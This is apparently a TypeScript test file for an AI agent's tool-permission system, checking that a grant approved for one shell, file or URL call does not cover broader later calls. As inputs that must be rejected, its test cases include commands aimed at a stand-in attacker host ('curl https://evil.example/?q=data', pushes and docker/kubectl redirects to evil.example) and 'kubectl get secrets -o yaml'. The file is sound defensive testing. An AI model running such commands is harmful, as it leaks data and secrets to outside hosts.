import { expect, test } from "vitest";
import type { JsonObject } from "@/contracts/common";
import { openPattern } from "@/contracts/lib/open-patterns";
import { analyzeCall } from "../call/analyzed-call";
import type { GuardedTool } from "../call/guard-request";
import { fetches, writes } from "../effects/declare-effects";
import { compileGrant } from "./compile-grants";
import { patternsFor } from "./grant-patterns";

const shell: GuardedTool = {
  name: "shell_execute",
  source: "builtin",
  sourceRef: null,
  effect: "destroy",
  surface: "natural",
  needs: ["shell"],
  primaryArgument: "command",
};
const files: GuardedTool = { ...shell, needs: ["files"], primaryArgument: "path", effects: ({ path }) => [writes("/path", String(path))] };
const web: GuardedTool = { ...shell, needs: ["http"], primaryArgument: "url", effects: ({ url }) => [fetches("/url", String(url))] };
const patterns = (tool: GuardedTool, args: JsonObject) =>
  patternsFor(analyzeCall({ tool, arguments: args, context: { interactive: true } })).map(({ pattern }) => pattern);

test.each([
  [shell, { command: "npm install a.b" }, ["^npm install(?: |$)"]],
  [shell, { command: "npm test" }, ["^npm test(?: |$)", "^npm(?: |$)"]],
  [shell, { command: "git -C x commit" }, ["^git(?: |$)", "^git(?: |$)"]],
  [shell, { command: "npm ci && make" }, ["^(?:npm ci|make)(?: |$)"]],
  [shell, { command: "npm test && make" }, ["^(?:npm test|make)(?: |$)", "^(?:npm|make)(?: |$)"]],
  [shell, { command: "sudo make" }, []],
  [files, { path: "src/a.b/c.ts" }, ["^src/a\\.b/[^/]+$", "^src/a\\.b/", "^src/"]],
  [files, { path: "c.ts" }, ["^[^/]+$"]],
  [web, { url: "https://a.example/v1/users?id=1" }, ["^https://a\\.example/v1/", "^https://a\\.example/"]],
  [shell, { command: "$TOOL run" }, []],
  [shell, { command: "" }, []],
  [files, { path: 5 }, []],
  [{ ...files, effects: () => [writes("/other", "a")] }, { path: "a" }, []],
  [{ ...files, effects: () => [writes("/path", "elsewhere")] }, { path: "a" }, []],
  [web, { url: "no address" }, []],
  [{ ...web, effects: () => [fetches("/url", "https://b.example/")] }, { url: "https://a.example/" }, []],
  [web, { url: "https://a.example/" }, ["^https://a\\.example/"]],
  [{ ...shell, needs: [], primaryArgument: null }, { a: 1 }, []],
] as const)("patterns of %o, from the narrow to the wide", (tool, args, expected) => expect(patterns(tool, args)).toEqual(expected));

test.each([
  [shell, "command", "g++ -c a.cpp && ./run.sh && npm test", "command"],
  [shell, "command", "git log", "command"],
  [files, "path", "docs/a.md", "path"],
  [web, "url", "https://a.example/v1/x", "url"],
] as const)("every proposed pattern of %o is closed", (tool, argument, value, text) => {
  const proposed = patterns(tool, { [argument]: value });
  expect(proposed.length).toBeGreaterThan(0);
  for (const pattern of proposed) expect(openPattern(pattern, text)).toBeNull();
});

test.each([
  ["curl https://api.github.com/repos", "curl to api.github.com", ["api.github.com"]],
  [
    "curl -s https://a.example && wget https://b.example:8443/x",
    "curl to a.example, wget to b.example:8443",
    ["a.example", "b.example:8443"],
  ],
  ["git push https://github.com/o/r.git main", "git push to github.com", ["github.com"]],
  ["git push origin main", "git push origin …", ["*"]],
  ["docker compose up -d", "docker compose up …", []],
  ["docker --context prod compose up", null, null],
  ["systemctl restart nginx", null, null],
  ["kubectl get pods", "kubectl get pods …", ["*"]],
  ["git push -f origin", null, null],
  ["git push", "git push …", ["*"]],
] as const)("the proposal for `%s` names its subcommand or its hosts: %s", (command, label, hosts) => {
  const [proposal] = patternsFor(analyzeCall({ tool: shell, arguments: { command }, context: { interactive: true } }));
  expect(proposal ?? null).toEqual(
    label === null ? null : { pattern: expect.any(String), label, reach: { hosts, machine: label.startsWith("docker") } },
  );
});

test.each([
  ["curl https://api.github.com/repos", "curl https://api.github.com/users?x=1", true],
  ["curl https://api.github.com/repos", "curl https://evil.example/?q=data", false],
  ["curl https://api.github.com/repos", "curl https://api.github.com/ https://evil.example", false],
  ["curl https://api.github.com/repos", 'curl "$URL"', false],
  ["git push origin main", "git push origin feature", true],
  ["git push origin main", "git push https://evil.example/x.git", false],
  ["git push origin main", "git push evil main", false],
  ["docker compose up -d", "docker compose up", true],
  ["docker compose up -d", "docker build .", false],
  ["docker compose up -d", "docker compose -H tcp://evil.example up", false],
  ["kubectl get pods", "kubectl get pods -n other", true],
  ["kubectl get pods", "kubectl delete pods x", false],
  ["kubectl get pods", "kubectl get secrets -o yaml", false],
  ["kubectl get pods", "kubectl get pods,secrets", false],
  ["kubectl get pods", "kubectl get pods --server https://evil.example", false],
  ["systemctl status nginx", "systemctl restart nginx", false],
  ["npm test", "npm publish", false],
  ["npm test", "npm install -g x", false],
] as const)("a grant proposed for `%s` covers `%s`: %s", (approved, later, isCovered) => {
  const asked = (command: string) => analyzeCall({ tool: shell, arguments: { command }, context: { interactive: true, sandboxed: true } });
  const results = patternsFor(asked(approved)).map(({ pattern, reach }) => {
    const match = { kind: "pattern" as const, parameter: null, pattern, ...(reach ? { reach } : {}) };
    const content = { id: "1", scope: "workspace", scopeId: null, tool: shell.name, match, maxSeverity: "high" } as const;
    return compileGrant({ ...content, expiresAt: null, grantedBy: { name: "Ann" } }).tryOn(asked(later), 0).result;
  });
  expect(results.includes("matched")).toBe(isCovered);
});
